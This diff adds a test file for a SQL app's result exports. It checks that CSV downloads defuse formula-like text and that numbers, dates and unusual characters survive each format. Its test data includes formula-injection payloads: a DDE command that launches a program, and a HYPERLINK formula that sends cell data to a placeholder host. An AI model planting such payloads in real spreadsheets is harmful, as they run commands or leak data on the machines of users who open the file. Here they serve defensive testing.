@@ -1,0 +1,228 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { readCsv, readJson, readParquet, readXlsx } from '../../testing/read-download.ts';
+import { runSql } from '../../testing/run-sql.ts';
+import { startTestApp, type TestApp } from '../../testing/start-test-app.ts';
+import type { TestClient } from '../../testing/test-client.ts';
+import { makeTinyWarehouse } from '../../testing/tiny-warehouse.ts';
+
+let app: TestApp;
+let trial: TestClient;
+beforeAll(async () => {
+  app = await startTestApp({ env: { WAREHOUSE_FOLDER: await makeTinyWarehouse() } });
+  trial = await app.signIn('trial@example.com');
+});
+afterAll(() => app.close());
+
+async function statement(sql: string): Promise<string> {
+  const batch = await runSql(trial, { batchText: sql });
+  expect(batch.statements[0]?.error ?? null).toBeNull();
+  return batch.statements[0]?.id as string;
+}
+
+async function download(id: string, ending: string): Promise<Buffer> {
+  const { rawPayload, statusCode } = await app.app.inject({
+    url: `/statement-results/${id}.${ending}`,
+    headers: { cookie: trial.cookie },
+  });
+  expect(statusCode, rawPayload.toString()).toBe(200);
+  return rawPayload;
+}
+
+const csv = async (id: string, query = '') => readCsv(await download(id, `csv${query}`));
+const json = async (id: string) => readJson(await download(id, 'json'));
+const xlsx = async (id: string) => readXlsx(await download(id, 'xlsx'));
+const parquet = async (id: string) => readParquet(await download(id, 'parquet'));
+const sqlText = (text: string) =>
+  [...text].map((sign) => (/[ -&(-~]/.test(sign) ? `'${sign}'` : `chr(${sign.codePointAt(0)})`)).join(' || ') || "''";
+const lines = (texts: readonly string[]) =>
+  `select * from (values ${texts.map((text) => `(${sqlText(text)})`).join(', ')}) t(v)`;
+
+const formulas = [
+  '=1+1',
+  '+1',
+  '-1+1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  ' =1',
+  '＝1',
+  '－1',
+  '＋1',
+  '＠a',
+  ' \uFEFF=1',
+  '\u00a0-1',
+  '=HYPERLINK("http://x?"&A1)',
+  "=cmd|'/C calc'!A0",
+  '-',
+  '+1 800 555 0142',
+  '\ttext',
+  '-5',
+];
+const harmless = ['1+1', 'a=b', ' a', '5', 'x@y.z', "'=1", 'é=1', '#N/A'];
+
+describe('a downloaded text', () => {
+  it('is never a formula: an apostrophe in CSV unless raw is asked for, a text cell in XLSX, untouched in JSON and Parquet (security V33, H118, H119)', async () => {
+    const id = await statement(lines([...formulas, ...harmless]));
+    const plain = [...formulas, ...harmless].map((text) => [text]);
+    expect((await csv(id)).rows).toEqual([...formulas.map((text) => [`'${text}`]), ...harmless.map((text) => [text])]);
+    expect((await csv(id, '?raw=true')).rows).toEqual(plain);
+    expect((await json(id)).rows).toEqual(plain);
+    expect((await xlsx(id)).rows).toEqual(plain);
+    expect((await parquet(id)).rows).toEqual(plain);
+  });
+
+  it('keeps numbers numbers: nothing is put before a minus in a column of numbers (security V33, H119)', async () => {
+    const id = await statement("select -5 as n, -1.25 as f, -9223372036854775808 as big, '-5' as t, -0.5::float as r");
+    expect((await csv(id)).rows).toEqual([['-5', '-1.25', '-9223372036854775808', "'-5", '-0.5']]);
+    expect((await xlsx(id)).rows).toEqual([[-5, -1.25, '-9223372036854775808', '-5', -0.5]]);
+    expect((await json(id)).rows).toEqual([[-5, -1.25, '-9223372036854775808', '-5', -0.5]]);
+    expect(await parquet(id)).toMatchObject({
+      rows: [['-5', -1.25, '-9223372036854775808', '-5', -0.5]],
+      types: ['BIGINT', 'DOUBLE', 'BIGINT', 'VARCHAR', 'DOUBLE'],
+    });
+  });
+
+  it('survives quotes, separators, line breaks of every kind and characters that a format cannot hold (security H120, H125)', async () => {
+    const odd = [
+      '"',
+      '""',
+      ',',
+      ';',
+      'a\rb',
+      'a\nb',
+      'a\r\nb',
+      '\u2028',
+      'a\uFEFF',
+      "'",
+      ' a ',
+      '<b>&amp;</b>',
+      ']]>',
+      '\u001b[31m',
+      '\u202Eabc',
+      '🏡',
+      '_x0041_',
+      '',
+    ];
+    const id = await statement(lines(odd));
+    expect((await csv(id)).rows).toEqual(odd.map((text) => [text]));
+    expect((await json(id)).rows).toEqual(odd.map((text) => [text]));
+    expect((await parquet(id)).rows).toEqual(odd.map((text) => [text]));
+    // XML knows no escape.
+    expect((await xlsx(id)).rows).toEqual(odd.map((text) => [text.replace('\u001b', '')]));
+    const withNul = await statement("select 'a' || chr(0) || 'b' as v, chr(0) || '=1' as f");
+    expect((await csv(withNul)).rows).toEqual([['ab', "'=1"]]);
+    expect((await xlsx(withNul)).rows).toEqual([['ab', '=1']]);
+    expect((await json(withNul)).rows).toEqual([['a\0b', '\0=1']]);
+  });
+
+  it('longer than a cell of a workbook is cut with a mark there and whole elsewhere (security H120)', async () => {
+    const id = await statement(
+      "select repeat('x', 32767) as fits, repeat('y', 32768) as long, repeat('🏡', 20000) as pairs",
+    );
+    const [fits, long, pairs] = (await xlsx(id)).rows[0] as [string, string, string];
+    expect([fits, long, pairs.length, pairs.isWellFormed(), pairs.at(-1)]).toEqual([
+      'x'.repeat(32_767),
+      `${'y'.repeat(32_766)}…`,
+      32_767,
+      true,
+      '…',
+    ]);
+    expect((await csv(id)).rows[0]?.[1]).toBe('y'.repeat(32_768));
+  });
+});
+
+describe('a downloaded value', () => {
+  it('keeps every digit; a workbook has text where a spreadsheet would round (security H113)', async () => {
+    const id =
+      await statement(`select 9007199254740993 as a, -9223372036854775808 as b, 18446744073709551615::ubigint as c,
+      170141183460469231731687303715884105727::hugeint as d, 12345678901234567890123456789.123456789::decimal(38,9) as e,
+      999999999999999 as f, 1000000000000000 as g, 0.1::float as h, 1234.5678::decimal(10,4) as i`);
+    const digits = [
+      '9007199254740993',
+      '-9223372036854775808',
+      '18446744073709551615',
+      '170141183460469231731687303715884105727',
+      '12345678901234567890123456789.123456789',
+    ];
+    expect((await csv(id)).rows).toEqual([[...digits, '999999999999999', '1000000000000000', '0.1', '1234.5678']]);
+    expect((await json(id)).rows).toEqual([[...digits, 999999999999999, 1000000000000000, 0.1, 1234.5678]]);
+    expect((await xlsx(id)).rows).toEqual([[...digits, 999999999999999, '1000000000000000', 0.1, 1234.5678]]);
+    const { rows, types } = await parquet(id);
+    expect(types.slice(0, 7)).toEqual(['BIGINT', 'BIGINT', 'VARCHAR', 'VARCHAR', 'VARCHAR', 'BIGINT', 'BIGINT']);
+    expect(rows[0]?.slice(0, 7)).toEqual([...digits, '999999999999999', '1000000000000000']);
+  });
+
+  it('that JSON has no number for is text, and a double is the same double (security H114)', async () => {
+    const id =
+      await statement(`select 'NaN'::double as a, 'Infinity'::double as b, '-Infinity'::double as c, 5e-324::double as d,
+      1.7976931348623157e308::double as e, 0.1::double as f`);
+    expect((await csv(id)).rows).toEqual([
+      ['NaN', 'Infinity', '-Infinity', '5e-324', '1.7976931348623157e+308', '0.1'],
+    ]);
+    expect((await json(id)).rows).toEqual([['NaN', 'Infinity', '-Infinity', 5e-324, 1.7976931348623157e308, 0.1]]);
+    expect((await xlsx(id)).rows).toEqual([['NaN', 'Infinity', '-Infinity', 5e-324, 1.7976931348623157e308, 0.1]]);
+    expect((await parquet(id)).rows).toEqual([['NaN', 'Infinity', '-Infinity', 5e-324, 1.7976931348623157e308, 0.1]]);
+  });
+
+  it('of time is exact text; a workbook has dates where its calendar is right, text before March 1900 and for what it cannot keep (security H115)', async () => {
+    const id = await statement(`select * from (values
+      (date '0050-03-04', timestamp '0001-01-01 00:00:00'), (date '1899-12-31', timestamp '1900-02-28 23:59:59'),
+      (date '1900-03-01', timestamp '1900-03-01 00:00:00'), (date '2026-11-21', timestamp '2026-11-21 10:11:12.123'),
+      (date '9999-12-31', timestamp '2026-11-21 10:11:12.123456'), (date 'infinity', timestamp '-infinity'),
+      (date '5877641-06-23', timestamp '2024-02-29 12:00:00')) t(d, t)`);
+    const texts = [
+      ['0050-03-04', '0001-01-01T00:00:00'],
+      ['1899-12-31', '1900-02-28T23:59:59'],
+      ['1900-03-01', '1900-03-01T00:00:00'],
+      ['2026-11-21', '2026-11-21T10:11:12.123'],
+      ['9999-12-31', '2026-11-21T10:11:12.123456'],
+      ['infinity', '-infinity'],
+      ['5877641-06-23', '2024-02-29T12:00:00'],
+    ];
+    expect((await json(id)).rows).toEqual(texts);
+    expect((await csv(id)).rows).toEqual(
+      texts.map((row) => row.map((text) => (text.startsWith('-') ? `'${text}` : text))),
+    );
+    expect((await parquet(id)).rows).toEqual(texts);
+    const shown = (await xlsx(id)).rows;
+    const at = (text: string) => new Date(`${text}Z`).toISOString().slice(0, 22);
+    expect(
+      shown.map((row) => row.map((value) => (value instanceof Date ? value.toISOString().slice(0, 22) : value))),
+    ).toEqual([
+      texts[0],
+      texts[1],
+      [at('1900-03-01T00:00'), at('1900-03-01T00:00')],
+      [at('2026-11-21T00:00'), at('2026-11-21T10:11:12.123')],
+      [at('9999-12-31T00:00'), texts[4]?.[1]],
+      texts[5],
+      [texts[6]?.[0], at('2024-02-29T12:00')],
+    ]);
+    const typed = await parquet(
+      await statement(
+        "select date '1582-10-10' as d, timestamp '2026-11-21 10:11:12.123456' as t, timestamptz '2026-11-21 10:11:12+00' as z",
+      ),
+    );
+    expect(typed).toMatchObject({
+      types: ['DATE', 'TIMESTAMP', 'TIMESTAMP WITH TIME ZONE'],
+      rows: [['1582-10-10', '2026-11-21 10:11:12.123456', '2026-11-21 10:11:12+00']],
+    });
+  });
+
+  it('of any other kind has the text form of the results call, and a boolean stays one (security H116, H126)', async () => {
+    const id =
+      await statement(`select true as b, null as n, 'a'::blob as x, uuid '00000000-0000-4000-8000-000000000000' as u,
+      [1, 2] as l, {'k': 'v'} as s, interval 3 days as i, time '24:00:00' as t, '06037' as zip`);
+    const texts = [
+      null,
+      '\\x61',
+      '00000000-0000-4000-8000-000000000000',
+      expect.stringContaining('1'),
+      expect.stringContaining('k'),
+      '3 days',
+      '24:00:00',
+      '06037',
+    ];
+    expect((await csv(id)).rows).toEqual([['true', ...texts]]);
+    for (const read of [json, xlsx, parquet]) expect((await read(id)).rows).toEqual([[true, ...texts]]);
+  });
+});
